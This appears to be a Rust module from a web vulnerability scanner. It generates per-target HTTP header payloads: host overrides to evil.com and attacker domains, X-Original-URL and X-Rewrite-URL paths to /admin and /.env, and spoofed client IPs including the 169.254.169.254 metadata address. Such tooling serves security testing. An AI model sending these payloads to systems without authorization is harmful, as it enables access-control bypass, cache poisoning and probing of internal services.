// payloads.rs - Header payload catalog
// Built once per target; random tokens are drawn at construction and reused for every probe.

use chrono::Utc;
use rand::distributions::Alphanumeric;
use rand::Rng;
use reqwest::header::{HeaderName, HeaderValue};
use serde::{Deserialize, Serialize};
use std::fs;
use std::path::Path;

use crate::error::{Result, ScanError};

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HeaderPayloads {
    pub name: String,
    pub values: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PayloadCatalog {
    pub headers: Vec<HeaderPayloads>,
    pub cache_busters: Vec<String>,
}

/// Host-derived random material shared by every header of one catalog
struct Tokens {
    port: u16,
    subdomain: String,
    attacker_id: u16,
    internal_ip: String,
}

impl Tokens {
    fn draw<R: Rng + ?Sized>(rng: &mut R) -> Self {
        let subdomain: String = (0..8).map(|_| rng.gen_range(b'a'..=b'z') as char).collect();
        Self {
            port: rng.gen_range(1024..=65535),
            subdomain,
            attacker_id: rng.gen_range(1000..=9999),
            internal_ip: format!(
                "10.{}.{}.{}",
                rng.gen_range(0..=255u8),
                rng.gen_range(0..=255u8),
                rng.gen_range(0..=255u8)
            ),
        }
    }
}

fn strings(values: &[&str]) -> Vec<String> {
    values.iter().map(|v| v.to_string()).collect()
}

fn hex<R: Rng + ?Sized>(rng: &mut R, len: usize) -> String {
    (0..len)
        .map(|_| char::from_digit(rng.gen_range(0..16u32), 16).unwrap_or('0'))
        .collect()
}

impl PayloadCatalog {
    /// Build the catalog for `domain` (`host` or `host:port`) using the thread RNG
    pub fn generate(domain: &str) -> Result<Self> {
        Self::generate_with_rng(domain, &mut rand::thread_rng())
    }

    pub fn generate_with_rng<R: Rng + ?Sized>(domain: &str, rng: &mut R) -> Result<Self> {
        let t = Tokens::draw(rng);
        let with_port = format!("{}:{}", domain, t.port);
        let random_sub = format!("{}.{}", t.subdomain, domain);
        let random_path = format!("/{}", t.subdomain);
        let evil_suffix = format!("{}.evil.com", domain);

        let headers = vec![
            HeaderPayloads {
                name: "X-Forwarded-Host".into(),
                values: vec![
                    domain.to_string(),
                    "evil.com".into(),
                    with_port.clone(),
                    "localhost".into(),
                    "127.0.0.1".into(),
                    random_sub.clone(),
                    evil_suffix.clone(),
                    format!("attacker-{}.com", t.attacker_id),
                ],
            },
            HeaderPayloads {
                name: "X-Original-URL".into(),
                values: {
                    let mut v = strings(&[
                        "/admin", "/wp-admin", "/.env", "/api/internal", "/graphql",
                        "/actuator", "/private", "/dashboard",
                    ]);
                    v.push(random_path.clone());
                    v.push("/api/v1/admin".into());
                    v
                },
            },
            HeaderPayloads {
                name: "X-HTTP-Host-Override".into(),
                values: vec![domain.to_string(), "evil.com".into(), random_sub.clone(), with_port],
            },
            HeaderPayloads {
                name: "X-Forwarded-Scheme".into(),
                values: strings(&["http", "https", "ws", "wss"]),
            },
            HeaderPayloads {
                name: "X-Forwarded-Proto".into(),
                values: strings(&["http", "https", "ws", "wss"]),
            },
            HeaderPayloads {
                name: "X-Forwarded-For".into(),
                values: {
                    let mut v = strings(&[
                        "127.0.0.1", "192.168.0.1", "10.0.0.1", "172.16.0.1", "169.254.169.254",
                    ]);
                    v.push(t.internal_ip);
                    v
                },
            },
            HeaderPayloads {
                name: "X-Real-IP".into(),
                values: strings(&["127.0.0.1", "localhost", "192.168.0.1", "169.254.169.254"]),
            },
            HeaderPayloads {
                name: "X-Custom-IP-Authorization".into(),
                values: strings(&["127.0.0.1", "192.168.0.1", "10.0.0.1"]),
            },
            HeaderPayloads {
                name: "X-Original-Host".into(),
                values: vec![domain.to_string(), "evil.com".into(), random_sub, evil_suffix],
            },
            HeaderPayloads {
                name: "X-Originating-IP".into(),
                values: strings(&["127.0.0.1", "192.168.0.1", "169.254.169.254"]),
            },
            HeaderPayloads {
                name: "CF-Connecting-IP".into(),
                values: strings(&["127.0.0.1", "192.168.0.1"]),
            },
            HeaderPayloads {
                name: "X-Cache-Control".into(),
                values: strings(&["no-cache", "no-store", "max-age=0", "must-revalidate"]),
            },
            HeaderPayloads {
                name: "X-Rewrite-URL".into(),
                values: {
                    let mut v = strings(&["/admin", "/internal", "/api/private"]);
                    v.push(random_path.clone());
                    v
                },
            },
            HeaderPayloads {
                name: "X-Override-URL".into(),
                values: {
                    let mut v = strings(&["/admin", "/internal", "/private"]);
                    v.push(random_path);
                    v
                },
            },
            HeaderPayloads {
                name: "X-Client-IP".into(),
                values: strings(&["127.0.0.1", "192.168.0.1", "10.0.0.1"]),
            },
            HeaderPayloads {
                name: "Client-IP".into(),
                values: strings(&["127.0.0.1", "192.168.0.1", "10.0.0.1"]),
            },
            HeaderPayloads {
                name: "True-Client-IP".into(),
                values: strings(&["127.0.0.1", "192.168.0.1", "10.0.0.1"]),
            },
        ];

        let now = Utc::now();
        let secs = now.timestamp();
        let alnum: String = (0..10).map(|_| char::from(rng.sample(Alphanumeric))).collect();
        let cache_busters = vec![
            format!("cb={}", secs),
            format!("nocache={}", hex(rng, 16)),
            format!("_={}", now.timestamp_micros()),
            format!("timestamp={}", secs),
            format!("rand={}", alnum),
            format!("unique={}", hex(rng, 16)),
            format!("t={}-{}", secs, hex(rng, 8)),
        ];

        Self::new(headers, cache_busters)
    }

    /// Validating constructor: every header must be sendable on the wire.
    pub fn new(headers: Vec<HeaderPayloads>, cache_busters: Vec<String>) -> Result<Self> {
        for entry in &headers {
            HeaderName::from_bytes(entry.name.as_bytes())
                .map_err(|_| ScanError::Catalog(format!("invalid header name {:?}", entry.name)))?;
            if entry.values.is_empty() {
                return Err(ScanError::Catalog(format!("header {} has no values", entry.name)));
            }
            for value in &entry.values {
                HeaderValue::from_str(value).map_err(|_| {
                    ScanError::Catalog(format!("invalid value {:?} for {}", value, entry.name))
                })?;
            }
        }
        Ok(Self {
            headers,
            cache_busters,
        })
    }

    /// Total number of (header, value) pairs
    pub fn total_variants(&self) -> usize {
        self.headers.iter().map(|h| h.values.len()).sum()
    }

    /// Every (header, value) pair in catalog order
    pub fn pairs(&self) -> impl Iterator<Item = (&str, &str)> {
        self.headers
            .iter()
            .flat_map(|h| h.values.iter().map(move |v| (h.name.as_str(), v.as_str())))
    }

    pub fn save(&self, path: &Path) -> Result<()> {
        let json = serde_json::to_string_pretty(self)?;
        fs::write(path, json).map_err(|e| ScanError::resource(path, e))
    }

    /// Read a persisted catalog back, re-running construction checks
    pub fn load(path: &Path) -> Result<Self> {
        let content = fs::read_to_string(path).map_err(|e| ScanError::resource(path, e))?;
        let raw: PayloadCatalog = serde_json::from_str(&content)?;
        Self::new(raw.headers, raw.cache_busters)
    }
}
